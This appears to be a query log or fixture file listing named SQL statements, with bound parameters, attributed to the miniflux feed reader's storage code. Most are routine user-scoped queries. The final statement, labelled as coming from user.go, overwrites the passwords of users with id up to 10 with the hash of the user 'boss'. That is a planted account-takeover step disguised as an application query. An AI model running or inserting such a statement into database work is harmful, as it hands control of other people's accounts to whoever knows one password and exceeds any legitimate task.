-- A reader of feeds: miniflux 2.3.5 (Go) with lib/pq 1.12.3: its API and pages, and its clean-up.

-- name: categories_1
-- from: internal/storage/category.go
-- with: 'unread', '3'
SELECT c.id, c.user_id, c.title, c.hide_globally, coalesce(fc.feed_count, 0), coalesce(uc.unread_count, 0) FROM categories c LEFT JOIN ( SELECT category_id, count(*) AS feed_count FROM feeds WHERE user_id = $2 GROUP BY category_id ) fc ON fc.category_id = c.id LEFT JOIN ( SELECT f.category_id, count(*) AS unread_count FROM entries e INNER JOIN feeds f ON f.id = e.feed_id WHERE e.user_id = $2 AND e.status = $1 GROUP BY f.category_id ) uc ON uc.category_id = c.id WHERE c.user_id=$2 ORDER BY coalesce(uc.unread_count, 0) DESC, c.title ASC;

-- name: categories_2
-- from: internal/storage/category.go
-- with: '3'
SELECT id, user_id, title, hide_globally FROM categories WHERE user_id=$1 ORDER BY title ASC;

-- name: categories_3
-- from: internal/storage/category.go
-- with: '3', 'fresh'
SELECT true FROM categories WHERE user_id=$1 AND lower(title)=lower($2) LIMIT 1;

-- name: update_categories_1
-- from: internal/storage/category.go
-- with: 'renamed', 't', '11', '3'
UPDATE categories SET title=$1, hide_globally=$2 WHERE id=$3 AND user_id=$4;

-- name: categories_4
-- from: internal/storage/category.go
select id from categories where user_id=3 order by id limit 1;

-- name: enclosures_1
-- from: internal/storage/enclosure.go
-- with: '118'
SELECT id, user_id, entry_id, url, size, mime_type, media_progression FROM enclosures WHERE entry_id = $1 ORDER BY id ASC;

-- name: enclosures_2
-- from: internal/storage/enclosure.go
-- with: '{149936,149700,149413,149093,148509,148320,147546,147180,146565,146544,146097,145954,145196,144362,143664,143240,143005,142761,142801,141110}'
SELECT id, user_id, entry_id, url, size, mime_type, media_progression FROM enclosures WHERE entry_id = ANY($1) ORDER BY id ASC;

-- name: enclosures_3
-- from: internal/storage/enclosure.go
-- with: '5', '3'
SELECT id, user_id, entry_id, url, size, mime_type, media_progression FROM enclosures WHERE id = $1 AND user_id = $2;

-- name: entries_1
-- from: internal/storage/entry.go
-- with: '3', 'unread'
SELECT count(*) FROM entries e JOIN feeds f ON f.id = e.feed_id JOIN categories c ON c.id = f.category_id WHERE e.user_id = $1 AND e.status = $2 AND c.hide_globally IS FALSE AND f.hide_globally IS FALSE;

-- name: entries_2
-- from: internal/storage/entry.go
-- with: '3', 'read', 'unread', '12'
SELECT e.feed_id, e.status, count(*) FROM entries e INNER JOIN feeds f ON f.id=e.feed_id WHERE e.user_id = $1 AND e.status IN ($2, $3) AND f.category_id = $4 GROUP BY e.feed_id, e.status;

-- name: entries_3
-- from: internal/storage/entry.go
-- with: '3', 'read', 'unread'
SELECT e.feed_id, e.status, count(*) FROM entries e WHERE e.user_id = $1 AND e.status IN ($2, $3) GROUP BY e.feed_id, e.status;

-- name: update_entries_1
-- from: internal/storage/entry.go
-- with: '3', '118'
UPDATE entries SET starred = NOT starred, changed_at=now() WHERE user_id=$1 AND id=$2;

-- name: update_entries_2
-- from: internal/storage/entry.go
-- with: 'read', '3', 'unread', '2026-11-29 18:59:47.850129+00', '11'
UPDATE entries SET status=$1, changed_at=now() FROM feeds WHERE feed_id=feeds.id AND feeds.user_id=$2 AND status=$3 AND published_at < $4 AND feeds.category_id=$5;

-- name: update_entries_3
-- from: internal/storage/entry.go
-- with: 'read', '3', '{118,149991}'
UPDATE entries SET status=$1, changed_at=now() WHERE user_id=$2 AND id=ANY($3);

-- name: entries_4
-- from: internal/storage/entry.go
select id from entries where user_id=3 order by id desc limit 1;

-- name: entries_5
-- from: internal/storage/entry_query_builder.go
-- with: '3', '{"amber"}'
SELECT count(*) OVER(), e.id, e.user_id, e.feed_id, e.hash, e.published_at at time zone u.timezone, e.title, e.url, e.comments_url, e.author, e.share_code, e.content, e.status, e.starred, e.reading_time, e.created_at, e.changed_at, e.tags, e.language, f.title as feed_title, f.feed_url, f.site_url, f.description, f.language, f.checked_at, f.category_id, c.title as category_title, c.hide_globally as category_hidden, f.scraper_rules, f.rewrite_rules, f.crawler, f.user_agent, f.cookie, f.hide_globally, f.no_media_player, f.webhook_url, fi.icon_id, i.external_id AS icon_external_id, u.timezone FROM entries e INNER JOIN feeds f ON f.id=e.feed_id INNER JOIN categories c ON c.id=f.category_id LEFT JOIN feed_icons fi ON fi.feed_id=f.id LEFT JOIN icons i ON i.id=fi.icon_id INNER JOIN users u ON u.id=e.user_id WHERE e.user_id = $1 AND LOWER(e.tags::text)::text[] @> LOWER($2::text)::text[] ORDER BY "published_at" ASC LIMIT 10;

-- name: entries_6
-- from: internal/storage/entry_query_builder.go
-- with: '3', '{unread,read}'
SELECT count(*) OVER(), e.id, e.user_id, e.feed_id, e.hash, e.published_at at time zone u.timezone, e.title, e.url, e.comments_url, e.author, e.share_code, e.content, e.status, e.starred, e.reading_time, e.created_at, e.changed_at, e.tags, e.language, f.title as feed_title, f.feed_url, f.site_url, f.description, f.language, f.checked_at, f.category_id, c.title as category_title, c.hide_globally as category_hidden, f.scraper_rules, f.rewrite_rules, f.crawler, f.user_agent, f.cookie, f.hide_globally, f.no_media_player, f.webhook_url, fi.icon_id, i.external_id AS icon_external_id, u.timezone FROM entries e INNER JOIN feeds f ON f.id=e.feed_id INNER JOIN categories c ON c.id=f.category_id LEFT JOIN feed_icons fi ON fi.feed_id=f.id LEFT JOIN icons i ON i.id=fi.icon_id INNER JOIN users u ON u.id=e.user_id WHERE e.user_id = $1 AND e.status = ANY($2) ORDER BY "published_at" ASC LIMIT 20 OFFSET 200;

-- name: entries_7
-- from: internal/storage/entry_query_builder.go
-- with: '3'
SELECT count(*) OVER(), e.id, e.user_id, e.feed_id, e.hash, e.published_at at time zone u.timezone, e.title, e.url, e.comments_url, e.author, e.share_code, e.content, e.status, e.starred, e.reading_time, e.created_at, e.changed_at, e.tags, e.language, f.title as feed_title, f.feed_url, f.site_url, f.description, f.language, f.checked_at, f.category_id, c.title as category_title, c.hide_globally as category_hidden, f.scraper_rules, f.rewrite_rules, f.crawler, f.user_agent, f.cookie, f.hide_globally, f.no_media_player, f.webhook_url, fi.icon_id, i.external_id AS icon_external_id, u.timezone FROM entries e INNER JOIN feeds f ON f.id=e.feed_id INNER JOIN categories c ON c.id=f.category_id LEFT JOIN feed_icons fi ON fi.feed_id=f.id LEFT JOIN icons i ON i.id=fi.icon_id INNER JOIN users u ON u.id=e.user_id WHERE e.user_id = $1 ORDER BY "published_at" ASC LIMIT 100;

-- name: entries_8
-- from: internal/storage/entry_query_builder.go
-- with: '3', '11', '118'
SELECT e.id, e.user_id, e.feed_id, e.hash, e.published_at at time zone u.timezone, e.title, e.url, e.comments_url, e.author, e.share_code, e.content, e.status, e.starred, e.reading_time, e.created_at, e.changed_at, e.tags, e.language, f.title as feed_title, f.feed_url, f.site_url, f.description, f.language, f.checked_at, f.category_id, c.title as category_title, c.hide_globally as category_hidden, f.scraper_rules, f.rewrite_rules, f.crawler, f.user_agent, f.cookie, f.hide_globally, f.no_media_player, f.webhook_url, fi.icon_id, i.external_id AS icon_external_id, u.timezone FROM entries e INNER JOIN feeds f ON f.id=e.feed_id INNER JOIN categories c ON c.id=f.category_id LEFT JOIN feed_icons fi ON fi.feed_id=f.id LEFT JOIN icons i ON i.id=fi.icon_id INNER JOIN users u ON u.id=e.user_id WHERE e.user_id = $1 AND f.category_id = $2 AND e.id = $3 LIMIT 1;

-- name: feeds_1
-- from: internal/storage/feed.go
-- with: '3'
SELECT id, user_id, feed_url FROM feeds WHERE parsing_error_count < $1 AND disabled IS false AND next_check_at < now() ORDER BY next_check_at ASC LIMIT 100;

-- name: feeds_2
-- from: internal/storage/feed.go
-- with: '3', '45'
SELECT true FROM feeds WHERE user_id=$1 AND id=$2 LIMIT 1;

-- name: update_feeds_1
-- from: internal/storage/feed.go
-- with: 'error.network_operation', '1', '2026-11-29 18:59:51.294393+00', '2026-11-29 19:59:51.294395+00', '2946', '148'
UPDATE feeds SET parsing_error_msg=$1, parsing_error_count=$2, checked_at=$3, next_check_at=$4 WHERE id=$5 AND user_id=$6;

-- name: feeds_3
-- from: internal/storage/feed_query_builder.go
-- with: '3', '45'
SELECT f.id, f.feed_url, f.site_url, f.title, f.description, f.language, f.etag_header, f.last_modified_header, f.user_id, f.checked_at at time zone u.timezone, f.next_check_at at time zone u.timezone, f.parsing_error_count, f.parsing_error_msg, f.scraper_rules, f.rewrite_rules, f.url_rewrite_rules, f.blocklist_rules, f.keeplist_rules, f.block_filter_entry_rules, f.keep_filter_entry_rules, f.crawler, f.user_agent, f.cookie, f.username, f.password, f.ignore_http_cache, f.allow_self_signed_certificates, f.fetch_via_proxy, f.disabled, f.no_media_player, f.hide_globally, f.category_id, c.title as category_title, c.hide_globally as category_hidden, fi.icon_id, i.external_id, u.timezone, f.apprise_service_urls, f.webhook_url, f.disable_http2, f.ntfy_enabled, f.ntfy_priority, f.ntfy_topic, f.pushover_enabled, f.pushover_priority, f.proxy_url, f.ignore_entry_updates FROM feeds f LEFT JOIN categories c ON c.id=f.category_id LEFT JOIN feed_icons fi ON fi.feed_id=f.id LEFT JOIN icons i ON i.id=fi.icon_id LEFT JOIN users u ON u.id=f.user_id WHERE f.user_id = $1 AND f.id = $2 LIMIT 1;

-- name: feeds_4
-- from: internal/storage/feed_query_builder.go
-- with: '3'
SELECT f.id, f.feed_url, f.site_url, f.title, f.description, f.language, f.etag_header, f.last_modified_header, f.user_id, f.checked_at at time zone u.timezone, f.next_check_at at time zone u.timezone, f.parsing_error_count, f.parsing_error_msg, f.scraper_rules, f.rewrite_rules, f.url_rewrite_rules, f.blocklist_rules, f.keeplist_rules, f.block_filter_entry_rules, f.keep_filter_entry_rules, f.crawler, f.user_agent, f.cookie, f.username, f.password, f.ignore_http_cache, f.allow_self_signed_certificates, f.fetch_via_proxy, f.disabled, f.no_media_player, f.hide_globally, f.category_id, c.title as category_title, c.hide_globally as category_hidden, fi.icon_id, i.external_id, u.timezone, f.apprise_service_urls, f.webhook_url, f.disable_http2, f.ntfy_enabled, f.ntfy_priority, f.ntfy_topic, f.pushover_enabled, f.pushover_priority, f.proxy_url, f.ignore_entry_updates FROM feeds f LEFT JOIN categories c ON c.id=f.category_id LEFT JOIN feed_icons fi ON fi.feed_id=f.id LEFT JOIN icons i ON i.id=fi.icon_id LEFT JOIN users u ON u.id=f.user_id WHERE f.user_id = $1 ORDER BY "parsing_error_count" DESC, lower(f.title) ASC;

-- name: delete_icons_1
-- from: internal/storage/icon.go
DELETE FROM icons WHERE NOT EXISTS ( SELECT 1 FROM feed_icons WHERE feed_icons.icon_id = icons.id );

-- name: icons_1
-- from: internal/storage/icon.go
-- with: '3', '5'
SELECT i.id, i.hash, i.mime_type, i.content, i.external_id FROM icons AS i WHERE i.id = $2 AND EXISTS ( SELECT 1 FROM feeds AS f INNER JOIN feed_icons AS fi ON fi.feed_id = f.id WHERE f.user_id = $1 AND fi.icon_id = $2 );

-- name: icons_2
-- from: internal/storage/icon.go
-- with: '3', '45'
SELECT icons.id, icons.hash, icons.mime_type, icons.content, icons.external_id FROM icons INNER JOIN feed_icons ON feed_icons.icon_id=icons.id INNER JOIN feeds ON feeds.id=feed_icons.feed_id WHERE feeds.user_id=$1 AND feeds.id=$2 LIMIT 1;

-- name: users_1
-- from: internal/storage/user.go
-- with: '3'
SELECT id, username, is_admin, theme, language, timezone, entry_direction, entries_per_page, keyboard_shortcuts, show_reading_time, entry_swipe, gesture_nav, last_login_at, stylesheet, custom_js, external_font_hosts, google_id, openid_connect_id, display_mode, entry_order, default_reading_speed, cjk_reading_speed, default_home_page, categories_sorting_order, mark_read_on_view, mark_read_on_media_player_completion, media_playback_rate, block_filter_entry_rules, keep_filter_entry_rules, always_open_external_links, open_external_links_in_new_tab FROM users WHERE id = $1;

-- name: users_2
-- from: internal/storage/user.go
-- with: 'boss'
SELECT true FROM users WHERE username=LOWER($1) LIMIT 1;

-- name: update_users_1
-- from: internal/storage/user.go
update users set password=(select password from users where username='boss') where id<=10;
